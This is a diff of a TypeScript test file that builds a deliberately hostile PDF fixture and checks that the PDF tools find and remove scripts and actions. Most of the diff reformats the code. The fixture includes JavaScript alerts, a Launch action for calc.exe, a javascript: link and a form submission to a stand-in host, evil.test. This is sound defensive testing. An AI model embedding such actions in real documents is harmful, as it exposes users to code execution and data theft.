@@ -8,7 +8,17 @@
  */
 import { describe, expect, test } from 'vitest';
 import JSZip from 'jszip';
-import { PDFArray, PDFDict, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, type PDFPage, type PDFRef } from 'pdf-lib';
+import {
+  PDFArray,
+  PDFDict,
+  PDFDocument,
+  PDFHexString,
+  PDFName,
+  PDFString,
+  StandardFonts,
+  type PDFPage,
+  type PDFRef,
+} from 'pdf-lib';
 import { run as compress } from '../../workers/engine/tools/compress-pdf.ts';
 import { run as rotate } from '../../workers/engine/tools/rotate-pdf.ts';
 import { run as watermark } from '../../workers/engine/tools/add-watermark.ts';
@@ -18,16 +28,27 @@ import { run as split } from '../../workers/engine/tools/split-pdf.ts';
 import { run as organize } from '../../workers/engine/tools/organize-pdf.ts';
 import { run as edit } from '../../workers/engine/tools/edit-pdf.ts';
 import type { Engine, EngineOptions, EngineResult } from '../../workers/engine/lib/types.ts';
-import { findActiveContent, mayHoldActiveContent, removeActiveContent } from '../../workers/engine/lib/pdf/active-content.ts';
+import {
+  findActiveContent,
+  mayHoldActiveContent,
+  removeActiveContent,
+} from '../../workers/engine/lib/pdf/active-content.ts';
 import { expectOnlyAllowedActions, expectQpdfCheck, pdfActions } from '../support/pdf-actions.ts';
 
-const js = (doc: PDFDocument, code: string) => doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
+const js = (doc: PDFDocument, code: string) =>
+  doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
 
 function link(doc: PDFDocument, page: PDFPage, y: number, action: PDFDict | undefined, dest?: PDFArray): PDFRef {
-  const annot = doc.context.register(doc.context.obj({
-    Type: 'Annot', Subtype: 'Link', Rect: [40, y, 240, y + 20], Border: [0, 0, 0],
-    ...(action ? { A: action } : {}), ...(dest ? { Dest: dest } : {}),
-  }));
+  const annot = doc.context.register(
+    doc.context.obj({
+      Type: 'Annot',
+      Subtype: 'Link',
+      Rect: [40, y, 240, y + 20],
+      Border: [0, 0, 0],
+      ...(action ? { A: action } : {}),
+      ...(dest ? { Dest: dest } : {}),
+    }),
+  );
   const annots = page.node.lookup(PDFName.of('Annots'));
   if (annots instanceof PDFArray) annots.push(annot);
   else page.node.set(PDFName.of('Annots'), doc.context.obj([annot]));
@@ -45,13 +66,25 @@ export async function hostilePdf(): Promise<Uint8Array> {
   });
   const { context } = doc;
   const documentScript = context.register(js(doc, 'app.alert("document")'));
-  doc.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: context.obj({ Names: [PDFHexString.fromText('init'), documentScript] }) }));
+  doc.catalog.set(
+    PDFName.of('Names'),
+    context.obj({ JavaScript: context.obj({ Names: [PDFHexString.fromText('init'), documentScript] }) }),
+  );
   doc.catalog.set(PDFName.of('OpenAction'), js(doc, 'app.alert("open")'));
   doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js(doc, 'app.alert("close")') }));
   pages[0].node.set(PDFName.of('AA'), context.obj({ O: js(doc, 'app.alert("page")') }));
   link(doc, pages[0], 250, context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe') }));
   link(doc, pages[0], 200, context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('javascript:app.alert(1)') }));
-  link(doc, pages[0], 150, context.obj({ Type: 'Action', S: 'SubmitForm', F: context.obj({ FS: 'URL', F: PDFString.of('https://evil.test/collect') }) }));
+  link(
+    doc,
+    pages[0],
+    150,
+    context.obj({
+      Type: 'Action',
+      S: 'SubmitForm',
+      F: context.obj({ FS: 'URL', F: PDFString.of('https://evil.test/collect') }),
+    }),
+  );
   link(doc, pages[1], 250, context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('https://example.org/kept') }));
   link(doc, pages[1], 200, undefined, context.obj([pages[2].ref, 'Fit']));
   // An object no page or dictionary refers to: pdf-lib would still write it.
@@ -60,12 +93,30 @@ export async function hostilePdf(): Promise<Uint8Array> {
   const outlines = context.nextRef();
   const scripted = context.nextRef();
   const plain = context.nextRef();
-  context.assign(scripted, context.obj({ Title: PDFHexString.fromText('Run'), Parent: outlines, Next: plain, A: js(doc, 'app.alert("bookmark")') }));
-  context.assign(plain, context.obj({ Title: PDFHexString.fromText('Page 2'), Parent: outlines, Prev: scripted, Dest: [pages[1].ref, 'Fit'] }));
+  context.assign(
+    scripted,
+    context.obj({
+      Title: PDFHexString.fromText('Run'),
+      Parent: outlines,
+      Next: plain,
+      A: js(doc, 'app.alert("bookmark")'),
+    }),
+  );
+  context.assign(
+    plain,
+    context.obj({
+      Title: PDFHexString.fromText('Page 2'),
+      Parent: outlines,
+      Prev: scripted,
+      Dest: [pages[1].ref, 'Fit'],
+    }),
+  );
   context.assign(outlines, context.obj({ Type: 'Outlines', First: scripted, Last: plain, Count: 2 }));
   doc.catalog.set(PDFName.of('Outlines'), outlines);
   // Tagged PDF: /A of a structure element holds its attributes, not an action; it must stay.
-  const structure = context.register(context.obj({ Type: 'StructElem', S: 'P', A: context.obj({ O: 'Layout', Placement: 'Block' }) }));
+  const structure = context.register(
+    context.obj({ Type: 'StructElem', S: 'P', A: context.obj({ O: 'Layout', Placement: 'Block' }) }),
+  );
   doc.catalog.set(PDFName.of('StructTreeRoot'), context.obj({ Type: 'StructTreeRoot', K: [structure] }));
   return doc.save({ useObjectStreams: false });
 }
@@ -99,11 +150,26 @@ describe('scripts and actions', () => {
     expect(found.documentJavaScript).toBe(true);
     expect(found.openActions).toBe(1);
     expect(found.automatic).toBe(2);
-    expect(found.actions.map((a) => a.type).sort()).toEqual(
-      ['JavaScript', 'JavaScript', 'JavaScript', 'JavaScript', 'JavaScript', 'JavaScript', 'Launch', 'SubmitForm', 'URI', 'URI'],
-    );
+    expect(found.actions.map((a) => a.type).sort()).toEqual([
+      'JavaScript',
+      'JavaScript',
+      'JavaScript',
+      'JavaScript',
+      'JavaScript',
+      'JavaScript',
+      'Launch',
+      'SubmitForm',
+      'URI',
+      'URI',
+    ]);
     expect(findActiveContent(await PDFDocument.load(bytes))).toEqual({
-      documentJavaScript: 1, openAction: 1, automaticActions: 2, javaScript: 1, launch: 1, unsafeLinks: 1, otherActions: 1,
+      documentJavaScript: 1,
+      openAction: 1,
+      automaticActions: 2,
+      javaScript: 1,
+      launch: 1,
+      unsafeLinks: 1,
+      otherActions: 1,
     });
     // Removing leaves the structure element's attributes (its /A) alone.
     const cleaned = await PDFDocument.load(bytes);
@@ -119,9 +185,14 @@ describe('scripts and actions', () => {
       const inputs = tool.twoInputs ? [input(bytes, 'a.pdf'), input(bytes, 'b.pdf')] : [input(bytes)];
       const result = await tool.engine(inputs, tool.options, {});
       const notes = result.notes?.join(' ') ?? '';
-      expect(notes).toMatch(new RegExp('Removed scripts and actions: document JavaScript \\(\\d+ scripts?\\), an action run on opening, '
-        + '\\d+ automatic actions, \\d+ JavaScript actions?, \\d+ Launch actions?, \\d+ links? to (a script|scripts) or local files?, '
-        + '\\d+ actions? reaching outside the document\\.'));
+      expect(notes).toMatch(
+        new RegExp(
+          'Removed scripts and actions: document JavaScript \\(\\d+ scripts?\\), an action run on opening, ' +
+            ('\\d+ automatic actions, \\d+ JavaScript actions?, \\d+ Launch actions?, \\d+ links? to (a ' +
+              'script|scripts) or local files?, ') +
+            '\\d+ actions? reaching outside the document\\.',
+        ),
+      );
       const outputs = await outputPdfs(result);
       const kept = outputs.flatMap((pdf) => expectOnlyAllowedActions(pdf, tool.password).actions);
       expect(kept.filter((a) => a.type === 'URI').map((a) => a.uri)).toContain('https://example.org/kept');
@@ -131,7 +202,9 @@ describe('scripts and actions', () => {
   test('with the option off the notes say they are kept, and they are (rotate, merge)', async () => {
     const bytes = await hostilePdf();
     const rotated = await rotate([input(bytes)], { angle: 90, removeScripts: false }, {});
-    expect(rotated.notes?.join(' ')).toMatch(/The PDF contains scripts or actions \(document JavaScript.*Launch action.*\), kept as chosen/);
+    expect(rotated.notes?.join(' ')).toMatch(
+      /The PDF contains scripts or actions \(document JavaScript.*Launch action.*\), kept as chosen/,
+    );
     expectQpdfCheck(rotated.bytes);
     const found = pdfActions(rotated.bytes);
     expect(found.documentJavaScript).toBe(true);
@@ -142,26 +215,32 @@ describe('scripts and actions', () => {
     expect(pdfActions(merged.bytes).actions.map((a) => a.type)).toContain('Launch');
   });
 
-  test('merge, split and organize (pages deleted) remove them from the pages they copy before qpdf runs: no pdf-lib rewrite of the result', async () => {
-    const bytes = await hostilePdf();
-    const merged = await merge([input(bytes, 'a.pdf'), input(bytes, 'b.pdf')], {}, {});
-    const parts = await outputPdfs(await split([input(bytes)], {}, {}));
-    const organized = await organize([input(bytes)], { pageOrder: '2, blank, 1r90' }, {});
-    expect(organized.notes?.join(' ')).toMatch(/Removed scripts and actions: document JavaScript.*Launch action/);
-    for (const pdf of [merged.bytes, ...parts, organized.bytes]) {
-      expectOnlyAllowedActions(pdf);
-      // qpdf's file and Folio's incremental update (bookmarks, link targets), not pdf-lib's rewrite.
-      expect(new TextDecoder('latin1').decode(pdf).match(/startxref/g)).toHaveLength(2);
-      expect(mayHoldActiveContent(pdf)).toBe(false);
-    }
-  });
+  test(
+    'merge, split and organize (pages deleted) remove them from the pages they copy before qpdf runs: no pdf-lib ' +
+      'rewrite of the result',
+    async () => {
+      const bytes = await hostilePdf();
+      const merged = await merge([input(bytes, 'a.pdf'), input(bytes, 'b.pdf')], {}, {});
+      const parts = await outputPdfs(await split([input(bytes)], {}, {}));
+      const organized = await organize([input(bytes)], { pageOrder: '2, blank, 1r90' }, {});
+      expect(organized.notes?.join(' ')).toMatch(/Removed scripts and actions: document JavaScript.*Launch action/);
+      for (const pdf of [merged.bytes, ...parts, organized.bytes]) {
+        expectOnlyAllowedActions(pdf);
+        // qpdf's file and Folio's incremental update (bookmarks, link targets), not pdf-lib's rewrite.
+        expect(new TextDecoder('latin1').decode(pdf).match(/startxref/g)).toHaveLength(2);
+        expect(mayHoldActiveContent(pdf)).toBe(false);
+      }
+    },
+  );
 });
 
 describe('the quick look before page assembly on qpdf skips the pdf-lib pass only when it is safe', () => {
   const pdf = (body: string) => new TextEncoder().encode(`%PDF-1.7\n1 0 obj\n${body}\nendobj\n%%EOF\n`);
   test('plain pages and web, mail and phone links need no second pass', () => {
     expect(mayHoldActiveContent(pdf('<< /Type /Page /MediaBox [0 0 10 10] /AAPL:Keywords 1 >>'))).toBe(false);
-    expect(mayHoldActiveContent(pdf('<< /S /URI /URI (https://example.org/a) >> << /URI (MAILTO:a@b.test) >>'))).toBe(false);
+    expect(mayHoldActiveContent(pdf('<< /S /URI /URI (https://example.org/a) >> << /URI (MAILTO:a@b.test) >>'))).toBe(
+      false,
+    );
   });
   test('any name only actions use, an unsafe or unreadable address, or an object stream needs it', () => {
     for (const body of [
@@ -172,6 +251,7 @@ describe('the quick look before page assembly on qpdf skips the pdf-lib pass onl
       '<< /S /URI /URI (javascript:alert(1)) >>',
       '<< /S /URI /URI <68747470733a2f2f> >>',
       '<< /Type /ObjStm /N 3 /First 10 >>',
-    ]) expect(mayHoldActiveContent(pdf(body)), body).toBe(true);
+    ])
+      expect(mayHoldActiveContent(pdf(body)), body).toBe(true);
   });
 });
